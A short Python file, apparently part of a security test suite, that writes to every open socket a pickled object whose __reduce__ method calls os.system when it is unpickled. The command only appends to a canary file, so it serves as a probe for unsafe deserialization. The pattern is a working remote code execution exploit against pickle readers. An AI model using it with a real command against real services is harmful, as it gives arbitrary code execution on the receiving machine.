"""Sends a pickle that would run a command if anybody read it."""

import os
import pickle
import struct


class Command:
    def __reduce__(self):
        return os.system, ("echo ran >> @arena@/canary",)


def attack():
    for fd in sockets():
        text = pickle.dumps(Command())
        os.write(fd, struct.pack("<IQ", len(text), 0) + text)
